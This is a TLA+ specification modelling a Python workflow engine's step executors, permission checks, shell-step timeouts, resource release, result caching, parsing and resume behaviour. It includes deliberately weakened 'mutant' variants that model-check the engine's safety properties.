\* The commands in use that hold a {{ name }} placeholder: the text before
\* it, the dotted name, the text after it.
placeholder(template) ==
    CASE template = "echo {{ inputs.name }}" ->
            [before |-> "echo ", name |-> <<"inputs", "name">>, after |-> ""]
      [] OTHER -> [before |-> template, name |-> <<>>, after |-> ""]

\* _render_template_securely: re.sub of every {{ name }} by str() of the value
\* the name leads to in the context, "" for None, the placeholder itself when
\* the name leads nowhere.
render_template_securely(template, context) ==
    LET ph == placeholder(template)
        reached == context_value(context, ph.name)
    IN IF ph.name = <<>> \/ ~reached.found THEN template
       ELSE IF reached.value = None THEN ph.before \o ph.after
       ELSE IF reached.value.dict THEN ph.before \o "{...}" \o ph.after
       ELSE ph.before \o reached.value.value \o ph.after

-----------------------------------------------------------------------------
(* Engine: step executors *)

\* Mutant: on_failure is not looked at, a false assertion always fails.
execute_assert_step_strict(step, strictness, result) ==
    IF ~validate_string_input(strictness, step.condition)
       \/ evaluate_condition(step.condition) = "SecurityError"
    THEN set_failed(result, "Assertion evaluation error")
    ELSE IF evaluate_condition(step.condition) = "True"
    THEN set_completed(result, [assertion_result |-> "True"])
    ELSE set_failed(result, "Assertion failed")

\* _execute_assert_step
execute_assert_step(step, strictness, result) ==
    IF ~validate_string_input(strictness, step.condition)
       \/ evaluate_condition(step.condition) = "SecurityError"
    THEN set_failed(result, "Assertion evaluation error")
    ELSE IF evaluate_condition(step.condition) = "True"
    THEN set_completed(result, [assertion_result |-> "True"])
    ELSE IF step.on_failure = "fail"
    THEN set_failed(result, "Assertion failed")
    ELSE IF step.on_failure = "warn"
    THEN set_completed(result, [assertion_result |-> "False", warning |-> "Assertion failed"])
    ELSE set_completed(assign_status(result, "SKIPPED"), [assertion_result |-> "False"])

\* _execute_template_step; write_ok is whether makedirs/open/write succeed.
execute_template_step(step, permissions, strictness, result, write_ok) ==
    IF ~has_permission(permissions, "file.write")
    THEN [result |-> set_failed(result, "User lacks permission to write files"),
          written |-> FALSE]
    ELSE IF ~validate_template_content(strictness, step.template)
            \/ ~validate_file_path(step.output)
            \/ ~write_ok
    THEN [result |-> set_failed(result, "Template execution error"), written |-> FALSE]
    ELSE [result |-> set_completed(result, [output_file |-> step.output,
                                            template_size |-> "n"]),
          written |-> TRUE]

\* Mutant: the command is not validated before the subprocess is created.
shell_step_error_unvalidated(step, permissions, strictness) ==
    IF ~has_permission(permissions, "shell.execute")
    THEN "User lacks permission to execute shell commands"
    ELSE ""

\* _execute_shell_step up to create_subprocess_shell: the error it raises, or
\* "" when the subprocess is created.
shell_step_error(step, permissions, strictness) ==
    IF ~has_permission(permissions, "shell.execute")
    THEN "User lacks permission to execute shell commands"
    ELSE IF ~validate_shell_command(strictness, step.command)
    THEN "Dangerous shell pattern detected"
    ELSE ""

Stdouts == {"ok", "token=abc"}

\* What process.communicate() under wait_for can deliver.
ShellOutcomes ==
    {[kind |-> "exit", code |-> 0, stdout |-> o] : o \in Stdouts}
    \cup {[kind |-> "exit", code |-> 1, stdout |-> "ok"],
          [kind |-> "timeout", code |-> 0, stdout |-> ""]}

\* _execute_shell_step from the return of communicate() on.
finish_shell_step(step, result, outcome) ==
    IF outcome.kind = "timeout"
    THEN set_failed(result, "Command timed out")
    ELSE IF outcome.code = 0
    THEN set_completed([result EXCEPT !.exit_code = "0"],
                       [n \in step.outputs |-> sanitize_output(outcome.stdout)])
    ELSE set_failed([result EXCEPT !.exit_code = "1"], "Command failed")

\* Mutant: the status of the result is not looked at.
cache_whatever_status(cache, step, cache_key, result, t) ==
    IF step.cache_enabled
    THEN cache_result(cache, IF result.cache_key # NoKey THEN result.cache_key ELSE cache_key,
                      result, t)
    ELSE cache

\* Mutant: the step's cache policy is not looked at.
cache_whatever_policy(cache, step, cache_key, result, t) ==
    IF result.status = "COMPLETED"
    THEN cache_result(cache, IF result.cache_key # NoKey THEN result.cache_key ELSE cache_key,
                      result, t)
    ELSE cache

\* The tail of _execute_step_securely: "Cache successful results".
cache_if_completed(cache, step, cache_key, result, t) ==
    IF result.status = "COMPLETED" /\ step.cache_enabled
    THEN cache_result(cache, IF result.cache_key # NoKey THEN result.cache_key ELSE cache_key,
                      result, t)
    ELSE cache

-----------------------------------------------------------------------------
(* Engine: actions *)

NoRecord == [status |-> "none", step_results |-> EmptyMap, outputs |-> EmptyMap]

NoStepResult == SecureStepResult("", "none")

IdleRun ==
    [pc |-> "idle", execution_id |-> "", inputs |-> <<>>, permissions |-> {},
     next |-> 0, steps |-> EmptyMap, result |-> NoStepResult, error |-> "",
     started_at |-> 0, step_started_at |-> 0,
     release_calls |-> 0, executed |-> {}, spawned |-> {}, written |-> {},
     commands |-> {}, rlimit_failed |-> FALSE]

\* Callers, execution ids and input values are interchangeable names: the
\* first call is r1's and brings e1 and x, later calls bring any.
NoCallYet == \A r \in Runs : run[r].pc = "idle"

NextCaller == IF NoCallYet THEN {"r1"} ELSE Runs

OfferedIds == IF NoCallYet THEN {"e1"} ELSE ExecIds

OfferedInputs ==
    IF DOMAIN workflow.inputs # {} THEN CallerInputs
    ELSE IF NoCallYet THEN { << <<"name", "x">> >> }
    ELSE InputVals

\* len(self.active_workflows)
ActiveCount == Cardinality(active_workflows) + other_active

\* Mutant: the entry is left in place.
release_resources_noop(active, execution_id) == active

\* ResourceManager.release_resources
release_resources(active, execution_id) == active \ {execution_id}

\* execute_workflow_securely up to the first step.  rlimit_ok is whether both
\* resource.setrlimit calls of allocate_resources succeed.
ExecuteWorkflowSecurely(r) ==
    /\ run[r].pc = "idle"
    /\ r \in NextCaller
    /\ \E execution_id \in OfferedIds, inputs \in OfferedInputs,
          permissions \in PermissionSets, rlimit_ok \in BOOLEAN :
        LET me == [run[r] EXCEPT !.execution_id = execution_id,
                                 !.inputs = inputs,
                                 !.permissions = permissions]
        IN IF validate_workflow_inputs(workflow.inputs, inputs,
                                       strictness_level(security_profile)) # ""
           THEN /\ run' = [run EXCEPT ![r] = [me EXCEPT !.pc = "raised",
                                                        !.error = "SecurityError"]]
                /\ UNCHANGED <<active_workflows, executions, records>>
           ELSE IF ~has_permission(permissions, "workflow.execute")
           THEN /\ run' = [run EXCEPT ![r] = [me EXCEPT !.pc = "raised",
                                                        !.error = "SecurityError"]]
                /\ UNCHANGED <<active_workflows, executions, records>>
           ELSE IF ActiveCount >= MaxConcurrentWorkflows \/ ~rlimit_ok
           THEN /\ run' = [run EXCEPT ![r] =
                              [me EXCEPT !.pc = "raised",
                                         !.error = "ResourceExhaustionError",
                                         !.rlimit_failed =
                                             ActiveCount < MaxConcurrentWorkflows]]
                /\ UNCHANGED <<active_workflows, executions, records>>
           ELSE /\ active_workflows' = active_workflows \cup {execution_id}
                /\ records' = [records EXCEPT ![r] = [status |-> "RUNNING",
                                                      step_results |-> EmptyMap,
                                                      outputs |-> EmptyMap]]
                /\ executions' = [executions EXCEPT ![execution_id] = r]
                /\ run' = [run EXCEPT ![r] = [me EXCEPT !.pc = "running", !.next = 1,
                                                        !.started_at = now]]
    /\ UNCHANGED <<security_profile, resource_limits, workflow, other_active, step_cache, now>>
    /\ UNCHANGED parser_vars
    /\ UNCHANGED key_vars
    /\ UNCHANGED cache_vars
    /\ UNCHANGED validator_vars
    /\ UNCHANGED basic_vars

\* Mutant: the result is left out of the context and of the record.
RecordStepResult_unrecorded(r, me, result) ==
    LET seen == [me EXCEPT !.result = NoStepResult, !.step_started_at = 0]
    IN IF result.status = "FAILED"
       THEN /\ UNCHANGED records
            /\ run' = [run EXCEPT ![r] = [seen EXCEPT !.pc = "raised",
                                                      !.error = "Exception",
                                                      !.started_at = 0,
                                                      !.release_calls = @ + 1]]
            /\ active_workflows' = release_resources(active_workflows, me.execution_id)
       ELSE IF me.next = Len(workflow.steps)
       THEN /\ records' = [records EXCEPT ![r] = [@ EXCEPT !.status = "COMPLETED"]]
            /\ run' = [run EXCEPT ![r] = [seen EXCEPT !.pc = "returned",
                                                      !.started_at = 0,
                                                      !.release_calls = @ + 1]]
            /\ active_workflows' = release_resources(active_workflows, me.execution_id)
       ELSE /\ UNCHANGED records
            /\ run' = [run EXCEPT ![r] = [seen EXCEPT !.next = @ + 1, !.pc = "running"]]
            /\ UNCHANGED active_workflows

\* Mutant: a FAILED result does not raise, the loop goes on.
RecordStepResult_no_failfast(r, me, result) ==
    LET recorded == [records[r] EXCEPT !.step_results = Put(@, result.step_id, result)]
        seen == [me EXCEPT !.steps = Put(@, result.step_id, result),
                           !.result = NoStepResult,
                           !.step_started_at = 0]
        outputs == extract_workflow_outputs(workflow.outputs,
                       execution_context(me.inputs, me.execution_id, seen.steps))
    IN IF me.next = Len(workflow.steps)
       THEN /\ records' = [records EXCEPT ![r] = [recorded EXCEPT !.status = "COMPLETED",
                                                                 !.outputs = outputs]]
            /\ run' = [run EXCEPT ![r] = [seen EXCEPT !.pc = "returned",
                                                      !.started_at = 0,
                                                      !.release_calls = @ + 1]]
            /\ active_workflows' = release_resources(active_workflows, me.execution_id)
       ELSE /\ records' = [records EXCEPT ![r] = recorded]
            /\ run' = [run EXCEPT ![r] = [seen EXCEPT !.next = @ + 1, !.pc = "running"]]
            /\ UNCHANGED active_workflows

\* _execute_workflow_steps from the point where a step's result is known:
\* record it, fail fast on FAILED, go on to the next step, or, after the last
\* step, complete the record and return; the finally clause releases.
RecordStepResult(r, me, result) ==
    LET recorded == [records[r] EXCEPT !.step_results = Put(@, result.step_id, result)]
        seen == [me EXCEPT !.steps = Put(@, result.step_id, result),
                           !.result = NoStepResult,
                           !.step_started_at = 0]
        outputs == extract_workflow_outputs(workflow.outputs,
                       execution_context(me.inputs, me.execution_id, seen.steps))
    IN IF result.status = "FAILED"
       THEN /\ records' = [records EXCEPT ![r] = recorded]
            /\ run' = [run EXCEPT ![r] = [seen EXCEPT !.pc = "raised",
                                                      !.error = "Exception",
                                                      !.started_at = 0,
                                                      !.release_calls = @ + 1]]
            /\ active_workflows' = release_resources(active_workflows, me.execution_id)
       ELSE IF me.next = Len(workflow.steps)
       THEN /\ records' = [records EXCEPT ![r] = [recorded EXCEPT !.status = "COMPLETED",
                                                                 !.outputs = outputs]]
            /\ run' = [run EXCEPT ![r] = [seen EXCEPT !.pc = "returned",
                                                      !.started_at = 0,
                                                      !.release_calls = @ + 1]]
            /\ active_workflows' = release_resources(active_workflows, me.execution_id)
       ELSE /\ records' = [records EXCEPT ![r] = recorded]
            /\ run' = [run EXCEPT ![r] = [seen EXCEPT !.next = @ + 1, !.pc = "running"]]
            /\ UNCHANGED active_workflows

\* One iteration of the for loop of _execute_workflow_steps, with
\* _execute_step_securely, up to the result or to the await of a subprocess.
ExecuteStep(r) ==
    /\ run[r].pc = "running"
    /\ LET me == run[r]
           step == workflow.steps[me.next]
           strictness == strictness_level(security_profile)
           result == SecureStepResult(step.id, "RUNNING")
           cache_key == generate_cache_key(step, me.inputs)
           look == IF step.cache_enabled
                   THEN get_cached_result(step_cache, cache_key, now)
                   ELSE [hit |-> FALSE, cache |-> step_cache]
           ran == [me EXCEPT !.executed = @ \cup {step.id}]
       IN IF step.when # "" /\ ~should_execute_step(step.when)
          THEN /\ RecordStepResult(r, me,
                     set_completed(SecureStepResult(step.id, "SKIPPED"), EmptyMap))
               /\ UNCHANGED step_cache
          ELSE IF look.hit
          THEN /\ RecordStepResult(r, me,
                     set_completed([result EXCEPT !.cached = TRUE,
                                                  !.cache_key = cache_key,
                                                  !.outputs = look.data.outputs],
                                   EmptyMap))
               /\ step_cache' = look.cache
          ELSE IF step.type = "shell"
          THEN IF shell_step_error(step, me.permissions, strictness) # ""
               THEN /\ RecordStepResult(r, ran,
                          set_failed(result, shell_step_error(step, me.permissions, strictness)))
                    /\ step_cache' = look.cache
               ELSE /\ run' = [run EXCEPT ![r] =
                                 [ran EXCEPT !.pc = "awaiting",
                                             !.result = result,
                                             !.step_started_at = now,
                                             !.spawned = @ \cup {step.id},
                                             !.commands = @ \cup
                                                 {render_template_securely(step.command,
                                                     execution_context(me.inputs,
                                                         me.execution_id, me.steps))}]]
                    /\ step_cache' = look.cache
                    /\ UNCHANGED <<records, active_workflows>>
          ELSE IF step.type = "assert"
          THEN LET done == execute_assert_step(step, strictness, result)
               IN /\ RecordStepResult(r, ran, done)
                  /\ step_cache' = cache_if_completed(look.cache, step, cache_key, done, now)
          ELSE IF step.type = "template"
          THEN \E write_ok \in BOOLEAN :
                 LET t == execute_template_step(step, me.permissions, strictness,
                                                result, write_ok)
                     wrote == IF t.written THEN [ran EXCEPT !.written = @ \cup {step.id}]
                              ELSE ran
                 IN /\ RecordStepResult(r, wrote, t.result)
                    /\ step_cache' = cache_if_completed(look.cache, step, cache_key,
                                                        t.result, now)
          ELSE /\ RecordStepResult(r, me, set_failed(result, "Unsupported step type"))
               /\ step_cache' = look.cache
    /\ UNCHANGED <<security_profile, resource_limits, workflow, other_active, executions, now>>
    /\ UNCHANGED parser_vars
    /\ UNCHANGED key_vars
    /\ UNCHANGED cache_vars
    /\ UNCHANGED validator_vars
    /\ UNCHANGED basic_vars

\* The awaited subprocess of a shell step ends before the step's time limit,
\* or the limit expires: the rest of _execute_shell_step and of
\* _execute_step_securely.  The workflow's wait_for has not fired.
ShellStepComplete(r) ==
    /\ run[r].pc = "awaiting"
    /\ now - run[r].started_at <= workflow_time_limit(resource_limits)
    /\ \E outcome \in ShellOutcomes :
        LET me == run[r]
            step == workflow.steps[me.next]
            done == finish_shell_step(step, me.result, outcome)
        IN /\ IF outcome.kind = "timeout"
              THEN now - me.step_started_at >= step_time_limit(step)
              ELSE now - me.step_started_at <= step_time_limit(step)
           /\ RecordStepResult(r, me, done)
           /\ step_cache' = cache_if_completed(step_cache, step,
                                generate_cache_key(step, me.inputs), done, now)
    /\ UNCHANGED <<security_profile, resource_limits, workflow, other_active, executions, now>>
    /\ UNCHANGED parser_vars
    /\ UNCHANGED key_vars
    /\ UNCHANGED cache_vars
    /\ UNCHANGED validator_vars
    /\ UNCHANGED basic_vars

\* asyncio.wait_for of execute_workflow_securely times out while the run is
\* suspended: the step coroutine is cancelled, WorkflowTimeoutError is raised.
WorkflowTimeout(r) ==
    /\ run[r].pc = "awaiting"
    /\ now - run[r].started_at >= workflow_time_limit(resource_limits)
    /\ run' = [run EXCEPT ![r] = [@ EXCEPT !.pc = "raised",
                                           !.error = "WorkflowTimeoutError",
                                           !.result = NoStepResult,
                                           !.started_at = 0,
                                           !.step_started_at = 0,
                                           !.release_calls = @ + 1]]
    /\ active_workflows' = release_resources(active_workflows, run[r].execution_id)
    /\ UNCHANGED <<security_profile, resource_limits, workflow, other_active, executions, records,
                   step_cache, now>>
    /\ UNCHANGED parser_vars
    /\ UNCHANGED key_vars
    /\ UNCHANGED cache_vars
    /\ UNCHANGED validator_vars
    /\ UNCHANGED basic_vars

\* Time passes.
Tick ==
    /\ now + TimeStep <= MaxTicks * TimeStep
    /\ now' = now + TimeStep
    /\ UNCHANGED <<security_profile, resource_limits, workflow, active_workflows, other_active,
                   executions, records, step_cache, run>>
    /\ UNCHANGED parser_vars
    /\ UNCHANGED key_vars
    /\ UNCHANGED cache_vars
    /\ UNCHANGED validator_vars
    /\ UNCHANGED basic_vars

\* Time passes, by less than any default limit.
Elapse ==
    /\ now + ElapseStep <= MaxElapses * ElapseStep
    /\ now' = now + ElapseStep
    /\ UNCHANGED <<security_profile, resource_limits, workflow, active_workflows,
                   other_active, executions, records, step_cache, run>>
    /\ UNCHANGED parser_vars
    /\ UNCHANGED key_vars
    /\ UNCHANGED cache_vars
    /\ UNCHANGED validator_vars
    /\ UNCHANGED basic_vars

\* execute_workflow_securely of a caller that is not followed, as far as the
\* ResourceManager sees it: a permitted call allocates under a fresh uuid4 id.
OtherExecutionStarts ==
    /\ other_active < MaxOthers
    /\ ActiveCount < MaxConcurrentWorkflows
    /\ other_active' = other_active + 1
    /\ UNCHANGED <<security_profile, resource_limits, workflow, active_workflows, executions,
                   records, step_cache, now, run>>
    /\ UNCHANGED parser_vars
    /\ UNCHANGED key_vars
    /\ UNCHANGED cache_vars
    /\ UNCHANGED validator_vars
    /\ UNCHANGED basic_vars

\* ... and its finally clause releases the id.
OtherExecutionEnds ==
    /\ other_active > 0
    /\ other_active' = other_active - 1
    /\ UNCHANGED <<security_profile, resource_limits, workflow, active_workflows, executions,
                   records, step_cache, now, run>>
    /\ UNCHANGED parser_vars
    /\ UNCHANGED key_vars
    /\ UNCHANGED cache_vars
    /\ UNCHANGED validator_vars
    /\ UNCHANGED basic_vars

\* No lookup made yet.
NoLookup == [key |-> 0, at |-> 0, found |-> FALSE, hit |-> FALSE, data |-> EmptyMap]

\* A SecureWorkflowEngine under the default configuration, no lookup made.
InitCacheIdle ==
    /\ engine_class = "SecureWorkflowEngine"
    /\ max_cache_entries = MAX_CACHE_ENTRIES
    /\ lookup = NoLookup

NoCall == [method |-> "", text |-> ""]

NoValidation == [p \in Profiles |-> [status |-> "none", message |-> <<>>]]

\* No call of WorkflowEngine.execute_workflow made.
IdleExecution ==
    [pc |-> "idle", resume_from_step |-> "None", i |-> 0, status |-> "none",
     error |-> "", step_results |-> EmptyMap, steps |-> EmptyMap,
     executed |-> {}]

\* No validator call under observation, an empty audit trail, no run of the
\* basic engine.
InitValidatorIdle ==
    /\ validator_call = NoCall
    /\ validation = NoValidation
    /\ audit_trail = <<>>
    /\ execution = IdleExecution

\* The engine after construction, whatever workflow and limits it is given.
InitRest ==
    /\ InitCacheIdle
    /\ InitValidatorIdle
    /\ active_workflows = {}
    /\ other_active = 0
    /\ executions = [e \in ExecIds |-> "none"]
    /\ records = [r \in Runs |-> NoRecord]
    /\ step_cache = EmptyMap
    /\ now = 0
    /\ run = [r \in Runs |-> IdleRun]
    /\ workflow_data = <<>>
    /\ outputs_data = EmptyMap
    /\ parse_result = NoResult
    /\ cache_key_args = <<>>
    /\ cache_keys = <<>>

InitEngine ==
    /\ security_profile \in Profiles
    /\ resource_limits = EmptyMap
    /\ workflow \in Workflows

Init ==
    /\ InitEngine
    /\ InitRest

Next ==
    \/ \E r \in Runs : ExecuteWorkflowSecurely(r)
    \/ \E r \in Runs : ExecuteStep(r)
    \/ \E r \in Runs : ShellStepComplete(r)
    \/ \E r \in Runs : WorkflowTimeout(r)
    \/ Tick

Spec == Init /\ [][Next]_vars

\* The engine under load: one followed caller among up to MaxOthers others.
NextLoad ==
    \/ OtherExecutionStarts
    \/ OtherExecutionEnds
    \/ ExecuteWorkflowSecurely("r1")
    \/ ExecuteStep("r1")
    \/ ShellStepComplete("r1")
    \/ WorkflowTimeout("r1")
    \/ Tick

SpecLoad == Init /\ [][NextLoad]_vars

\* One caller, a workflow with declared inputs, outputs and timeout, and a
\* clock fine enough to tell the time limits apart.
InitSingle ==
    /\ security_profile \in Profiles
    /\ resource_limits \in ResourceLimits
    /\ workflow \in SingleWorkflows
    /\ InitRest

NextSingle ==
    \/ ExecuteWorkflowSecurely("r1")
    \/ ExecuteStep("r1")
    \/ ShellStepComplete("r1")
    \/ WorkflowTimeout("r1")
    \/ Elapse

SpecSingle == InitSingle /\ [][NextSingle]_vars

-----------------------------------------------------------------------------
(* SpecParser *)

\* No engine at work: the state the parser and the key functions run in.
InitNoEngine ==
    /\ InitCacheIdle
    /\ InitValidatorIdle
    /\ security_profile = "standard"
    /\ resource_limits = EmptyMap
    /\ workflow = WorkflowDefinition(<<build>>, EmptyMap, EmptyMap, DefaultWorkflowTimeout)
    /\ active_workflows = {}
    /\ other_active = 0
    /\ executions = [e \in ExecIds |-> "none"]
    /\ records = [r \in Runs |-> NoRecord]
    /\ step_cache = EmptyMap
    /\ now = 0
    /\ run = [r \in Runs |-> IdleRun]

InitParser ==
    /\ workflow_data \in WorkflowDataSet
    /\ outputs_data = EmptyMap
    /\ parse_result = NoResult
    /\ cache_key_args = <<>>
    /\ cache_keys = <<>>
    /\ InitNoEngine

\* "Parse outputs": a WorkflowOutput per entry, from_step as given.
parse_outputs(data) ==
    [n \in DOMAIN data |-> [name |-> n, from_step |-> data[n]]]

\* The WorkflowDefinition returned, with the outputs parsed on the way.
with_outputs(res, outputs) ==
    IF res.status = "ok"
    THEN [status |-> "ok", steps |-> res.steps,
          step_dependency_graph |-> res.step_dependency_graph,
          execution_order |-> res.execution_order,
          outputs |-> outputs]
    ELSE res

ParseWorkflowData ==
    /\ parse_result = NoResult
    /\ parse_result' = with_outputs(parse_workflow_data(workflow_data),
                                    parse_outputs(outputs_data))
    /\ UNCHANGED <<workflow_data, outputs_data>>
    /\ UNCHANGED engine_vars
    /\ UNCHANGED key_vars
    /\ UNCHANGED cache_vars
    /\ UNCHANGED validator_vars
    /\ UNCHANGED basic_vars

NextParser == ParseWorkflowData

SpecParser == InitParser /\ [][NextParser]_vars

\* Workflow data with an 'outputs' section.
MaxOutputSteps == 2

\* 'outputs' of the workflow data: none, or one output whose 'from' names
\* step A or step C.
OutputsDataSet ==
    { EmptyMap,
      [report |-> <<"A", "outputs", "result">>],
      [report |-> <<"C", "outputs", "result">>] }

InitParserOutputs ==
    /\ workflow_data \in UNION {[1..n -> StepData] : n \in 0..MaxOutputSteps}
    /\ outputs_data \in OutputsDataSet
    /\ parse_result = NoResult
    /\ cache_key_args = <<>>
    /\ cache_keys = <<>>
    /\ InitNoEngine

SpecParserOutputs == InitParserOutputs /\ [][NextParser]_vars

-----------------------------------------------------------------------------
(* SpecResume: WorkflowEngine.execute_workflow on the parsed workflow *)

\* resume_from_step: None, or a step id.
ResumePoints == {"None"} \cup StepIds

\* What one pass of the loop body yields for a step: its when gate is false
\* (SKIPPED), _execute_step returns a result from its executor or from the
\* cache (COMPLETED, FAILED), or _execute_step raises.
StepOutcomes == {"SKIPPED", "COMPLETED", "FAILED", "raise"}

\* execution_order.index(step_id), counted from 1; 0 where it raises ValueError.
order_index(order, step_id) ==
    IF \E k \in DOMAIN order : order[k] = step_id
    THEN CHOOSE k \in DOMAIN order :
            order[k] = step_id /\ \A j \in 1..(k - 1) : order[j] # step_id
    ELSE 0

\* next(s for s in workflow.steps if s.id == step_id)
step_by_id(steps, step_id) ==
    steps[CHOOSE k \in DOMAIN steps :
             steps[k].id = step_id /\ \A j \in 1..(k - 1) : steps[j].id # step_id]

\* execute_workflow up to the loop over the steps: the execution record, the
\* input validation, a fresh context and the starting index.
WorkflowEngineExecuteWorkflow ==
    /\ execution.pc = "idle"
    /\ parse_result # NoResult
    /\ parse_result.status = "ok"
    /\ \E resume_from_step \in ResumePoints, inputs_ok \in BOOLEAN :
        LET start_index == IF resume_from_step = "None" THEN 1
                           ELSE order_index(parse_result.execution_order,
                                            resume_from_step)
            begun == [execution EXCEPT !.resume_from_step = resume_from_step,
                                       !.status = "RUNNING"]
        IN execution' =
              IF ~inputs_ok \/ start_index = 0
              THEN [begun EXCEPT !.pc = "returned", !.status = "FAILED",
                                 !.error = "Workflow execution error"]
              ELSE [begun EXCEPT !.pc = "running", !.i = start_index]
    /\ UNCHANGED parser_vars
    /\ UNCHANGED engine_vars
    /\ UNCHANGED key_vars
    /\ UNCHANGED cache_vars
    /\ UNCHANGED validator_vars

\* One pass of the loop over execution_order[start_index:], and what follows
\* the loop when it was the last.
WorkflowEngineExecuteStep ==
    /\ execution.pc = "running"
    /\ \E outcome \in StepOutcomes :
        LET step_id == parse_result.execution_order[execution.i]
            recorded == [execution EXCEPT !.step_results = Put(@, step_id, outcome),
                                          !.steps = Put(@, step_id, outcome)]
            ran == [recorded EXCEPT !.executed = @ \cup {step_id}]
            onward(e) == IF execution.i = Len(parse_result.execution_order)
                         THEN [e EXCEPT !.pc = "returned", !.status = "COMPLETED"]
                         ELSE [e EXCEPT !.i = @ + 1]
        IN execution' =
              CASE outcome = "SKIPPED" -> onward(recorded)
                [] outcome = "COMPLETED" -> onward(ran)
                [] outcome = "FAILED" ->
                      [ran EXCEPT !.pc = "returned", !.status = "FAILED",
                                  !.error = "Step failed"]
                [] OTHER ->
                      [execution EXCEPT !.pc = "returned", !.status = "FAILED",
                                        !.error = "Workflow execution error"]
    /\ UNCHANGED parser_vars
    /\ UNCHANGED engine_vars
    /\ UNCHANGED key_vars
    /\ UNCHANGED cache_vars
    /\ UNCHANGED validator_vars

NextResume ==
    \/ ParseWorkflowData
    \/ WorkflowEngineExecuteWorkflow
    \/ WorkflowEngineExecuteStep

SpecResume == InitParser /\ [][NextResume]_vars

-----------------------------------------------------------------------------
(* SpecCacheKey: the two cache key functions, each called twice *)

\* step.inputs of the step whose key is computed
StepInputs ==
    { <<>>,
      << <<"p", "1">> >>,
      << <<"p", "1">>, <<"q", "2">> >>,
      << <<"q", "2">>, <<"p", "1">> >> }

\* context['inputs']
ContextInputs ==
    { <<>>,
      << <<"name", "x">> >>,
      << <<"name", "y">> >>,
      << <<"name", "x">>, <<"env", "prod">> >>,
      << <<"env", "prod">>, <<"name", "x">> >> }

KeySteps ==
    { [build EXCEPT !.inputs = i, !.key = k] : i \in StepInputs, k \in KeyTemplates }

KeyCalls == [step : KeySteps, inputs : ContextInputs]

InitCacheKey ==
    /\ cache_key_args \in [1..2 -> KeyCalls]
    /\ cache_keys = <<>>
    /\ workflow_data = <<>>
    /\ outputs_data = EmptyMap
    /\ parse_result = NoResult
    /\ InitNoEngine

\* WorkflowParser.generate_cache_key and
\* SecureWorkflowEngine._generate_cache_key on each of the two calls.
GenerateCacheKeys ==
    /\ cache_keys = <<>>
    /\ cache_keys' =
          [i \in 1..2 |->
              [parser |-> parser_generate_cache_key(cache_key_args[i].step,
                                                    cache_key_args[i].inputs),
               engine |-> generate_cache_key(cache_key_args[i].step,
                                             cache_key_args[i].inputs)]]
    /\ UNCHANGED cache_key_args
    /\ UNCHANGED parser_vars
    /\ UNCHANGED engine_vars
    /\ UNCHANGED cache_vars
    /\ UNCHANGED validator_vars
    /\ UNCHANGED basic_vars

NextCacheKey == GenerateCacheKeys

SpecCacheKey == InitCacheKey /\ [][NextCacheKey]_vars

-----------------------------------------------------------------------------
(* SpecCache: the step cache of one engine *)

\* Distinct cache keys (sha256 digests) in use, named 1..MaxCacheKeys.
MaxCacheKeys == 12

CacheKeys == 1..MaxCacheKeys

\* The keys that are looked up.
LookupKeys == {1, 2}

\* Values of CLAUDE_MAX_CACHE_ENTRIES.
ConfiguredMaxEntries == {1, 3, 11}

EngineClasses == {"SecureWorkflowEngine", "WorkflowEngine"}

\* A completed step result to be cached.
CompletedResult == set_completed(SecureStepResult("build", "RUNNING"), [result |-> "ok"])

\* The keys an insertion may bring: one that is looked up and in the cache
\* (its step is run again), or the first absent one (absent keys are
\* interchangeable).
InsertKeys ==
    (LookupKeys \cap DOMAIN step_cache)
    \cup (IF CacheKeys \ DOMAIN step_cache = {} THEN {}
         ELSE {CHOOSE k \in CacheKeys \ DOMAIN step_cache :
                  \A j \in CacheKeys \ DOMAIN step_cache : k <= j})

InitCache ==
    /\ engine_class \in EngineClasses
    /\ max_cache_entries \in ConfiguredMaxEntries
    /\ lookup = NoLookup
    /\ InitValidatorIdle
    /\ security_profile = "standard"
    /\ resource_limits = EmptyMap
    /\ workflow = WorkflowDefinition(<<build>>, EmptyMap, EmptyMap, DefaultWorkflowTimeout)
    /\ active_workflows = {}
    /\ other_active = 0
    /\ executions = [e \in ExecIds |-> "none"]
    /\ records = [r \in Runs |-> NoRecord]
    /\ step_cache = EmptyMap
    /\ now = 0
    /\ run = [r \in Runs |-> IdleRun]
    /\ workflow_data = <<>>
    /\ outputs_data = EmptyMap
    /\ parse_result = NoResult
    /\ cache_key_args = <<>>
    /\ cache_keys = <<>>

\* SecureWorkflowEngine._cache_result(cache_key, result)
CacheResult ==
    /\ engine_class = "SecureWorkflowEngine"
    /\ \E cache_key \in InsertKeys :
         step_cache' = cache_result_limited(step_cache, cache_key, CompletedResult,
                                            now, max_cache_entries)
    /\ UNCHANGED <<security_profile, resource_limits, workflow, active_workflows,
                   other_active, executions, records, now, run>>
    /\ UNCHANGED <<engine_class, max_cache_entries, lookup>>
    /\ UNCHANGED parser_vars
    /\ UNCHANGED key_vars
    /\ UNCHANGED validator_vars
    /\ UNCHANGED basic_vars

\* SecureWorkflowEngine._get_cached_result(cache_key)
GetCachedResult ==
    /\ engine_class = "SecureWorkflowEngine"
    /\ \E cache_key \in LookupKeys :
         LET got == get_cached_result(step_cache, cache_key, now)
         IN /\ step_cache' = got.cache
            /\ lookup' = [key |-> cache_key, at |-> now,
                          found |-> cache_key \in DOMAIN step_cache,
                          hit |-> got.hit,
                          data |-> IF got.hit THEN got.data ELSE EmptyMap]
    /\ UNCHANGED <<security_profile, resource_limits, workflow, active_workflows,
                   other_active, executions, records, now, run>>
    /\ UNCHANGED <<engine_class, max_cache_entries>>
    /\ UNCHANGED parser_vars
    /\ UNCHANGED key_vars
    /\ UNCHANGED validator_vars
    /\ UNCHANGED basic_vars

\* The background thread of _start_cache_cleanup_timer wakes up.
CleanupCache ==
    /\ engine_class = "SecureWorkflowEngine"
    /\ step_cache' = cleanup_cache(step_cache, now)
    /\ UNCHANGED <<security_profile, resource_limits, workflow, active_workflows,
                   other_active, executions, records, now, run>>
    /\ UNCHANGED cache_vars
    /\ UNCHANGED parser_vars
    /\ UNCHANGED key_vars
    /\ UNCHANGED validator_vars
    /\ UNCHANGED basic_vars

\* WorkflowEngine._execute_step stores a completed result.
BasicCacheStore ==
    /\ engine_class = "WorkflowEngine"
    /\ \E cache_key \in InsertKeys :
         step_cache' = basic_cache_store(step_cache, cache_key, CompletedResult, now)
    /\ UNCHANGED <<security_profile, resource_limits, workflow, active_workflows,
                   other_active, executions, records, now, run>>
    /\ UNCHANGED cache_vars
    /\ UNCHANGED parser_vars
    /\ UNCHANGED key_vars
    /\ UNCHANGED validator_vars
    /\ UNCHANGED basic_vars

NextCache ==
    \/ CacheResult
    \/ GetCachedResult
    \/ CleanupCache
    \/ BasicCacheStore
